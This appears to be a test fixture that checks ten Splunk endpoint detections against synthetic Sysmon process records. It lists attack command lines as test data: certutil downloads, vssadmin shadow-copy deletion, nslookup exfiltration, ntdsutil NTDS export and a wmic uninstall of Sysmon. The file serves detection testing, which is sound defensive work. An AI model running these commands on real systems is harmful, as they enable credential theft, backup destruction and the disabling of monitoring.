# Ten more real security_content detections over Endpoint.Processes, loaded
# from the corpus at run time and mapped to the same attack data as
# corpus_detections_real.t, fire on the constructed records of
# tests/data/tstats/sysmon_process_starts.json: copies of the real PsExec
# Sysmon start (WORKSTATION5, user WORKSTATION5\wardog, parent cmd.exe) with
# the process replaced, one per technique (see
# tests/data/tstats/make_sysmon_process_starts.py):
#   7z.exe a -tzip \\10.0.2.15\C$\...           7zip_commandline_to_smb_share_path
#   certutil.exe -urlcache -split -f http://... certutil_download_with_urlcache_and_split_arguments
#   vssadmin.exe delete shadows /all /quiet     deleting_shadow_copies
#   nslookup.exe -querytype=SRV _ldap._tcp...   dns_exfiltration_using_nslookup_app,
#                                               windows_system_discovery_using_ldap_nslookup
#   net.exe group "Domain Admins" /domain       domain_group_discovery_with_net,
#                                               elevated_group_discovery_with_net
#   net.exe localgroup administrators           net_localgroup_discovery
#   ntdsutil.exe "ac i ntds" "ifm" "create ..." ntdsutil_export_ntds
#   wmic.exe product where ... call uninstall   wmic_noninteractive_app_uninstallation
--- args
test
-m
$SHARED/corpus/security_content/macros
--lookups
$SHARED/corpus/security_content/lookups
--data
https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/malware/conti/conti_leak/windows-sysmon_7z.log=tests/data/tstats/sysmon_process_starts.json
--data
https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1105/atomic_red_team/windows-sysmon.log=tests/data/tstats/sysmon_process_starts.json
--data
https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1490/atomic_red_team/windows-sysmon.log=tests/data/tstats/sysmon_process_starts.json
--data
https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1048.003/nslookup_exfil/windows-sysmon.log=tests/data/tstats/sysmon_process_starts.json
--data
https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1069.002/AD_discovery/windows-sysmon.log=tests/data/tstats/sysmon_process_starts.json
--data
https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1069.001/atomic_red_team/windows-sysmon.log=tests/data/tstats/sysmon_process_starts.json
--data
https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1003.003/atomic_red_team/windows-sysmon.log=tests/data/tstats/sysmon_process_starts.json
--data
https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/attack_techniques/T1033/qakbot_discovery_cmdline/sysmon.log=tests/data/tstats/sysmon_process_starts.json
--data
https://media.githubusercontent.com/media/splunk/attack_data/master/datasets/malware/icedid/disable_av/sysmon2.log=tests/data/tstats/sysmon_process_starts.json
$SHARED/corpus/security_content/detections/endpoint/7zip_commandline_to_smb_share_path.yml
$SHARED/corpus/security_content/detections/endpoint/certutil_download_with_urlcache_and_split_arguments.yml
$SHARED/corpus/security_content/detections/endpoint/deleting_shadow_copies.yml
$SHARED/corpus/security_content/detections/endpoint/dns_exfiltration_using_nslookup_app.yml
$SHARED/corpus/security_content/detections/endpoint/domain_group_discovery_with_net.yml
$SHARED/corpus/security_content/detections/endpoint/elevated_group_discovery_with_net.yml
$SHARED/corpus/security_content/detections/endpoint/net_localgroup_discovery.yml
$SHARED/corpus/security_content/detections/endpoint/ntdsutil_export_ntds.yml
$SHARED/corpus/security_content/detections/endpoint/windows_system_discovery_using_ldap_nslookup.yml
$SHARED/corpus/security_content/detections/endpoint/wmic_noninteractive_app_uninstallation.yml
--- query
--- expect
PASS  7zip CommandLine To SMB Share Path › True Positive Test: 1 result
      archive process 7z.exe with suspicious cmdline 7z.exe a -tzip \\10.0.2.15\C$\Users\Public\docs.zip C:\Users\wardog\Documents in host WORKSTATION5
PASS  CertUtil Download With URLCache and Split Arguments › True Positive Test: 1 result
      An instance of cmd.exe spawning certutil.exe was identified on endpoint WORKSTATION5 by user WORKSTATION5\wardog attempting to download a file.
PASS  Deleting Shadow Copies › True Positive Test: 1 result
      An instance of cmd.exe spawning vssadmin.exe was identified on endpoint WORKSTATION5 by user WORKSTATION5\wardog attempting to delete shadow copies.
PASS  DNS Exfiltration Using Nslookup App › True Positive Test: 1 result
      An instance of cmd.exe spawning nslookup.exe was identified on endpoint WORKSTATION5 by user WORKSTATION5\wardog performing activity related to DNS exfiltration.
PASS  Domain Group Discovery With Net › True Positive Test: 1 result
      Domain group discovery enumeration on WORKSTATION5 by WORKSTATION5\wardog
PASS  Elevated Group Discovery With Net › True Positive Test: 1 result
      Elevated domain group discovery enumeration on WORKSTATION5 by WORKSTATION5\wardog
PASS  Net Localgroup Discovery › True Positive Test: 1 result
      Local group discovery on WORKSTATION5 by WORKSTATION5\wardog.
PASS  Ntdsutil Export NTDS › True Positive Test: 1 result
      Active Directory NTDS export on WORKSTATION5
PASS  Windows System Discovery Using ldap Nslookup › True Positive Test: 1 result
      System nslookup domain discovery on WORKSTATION5
PASS  Wmic NonInteractive App Uninstallation › True Positive Test: 1 result
      Wmic WMIC.exe with command-line wmic.exe product where name="Sysmon" call uninstall /nointeractive on WORKSTATION5 attempting to uninstall software.
10 passed, 0 failed, 0 errors, 0 skipped (10 tests in 10 detections)
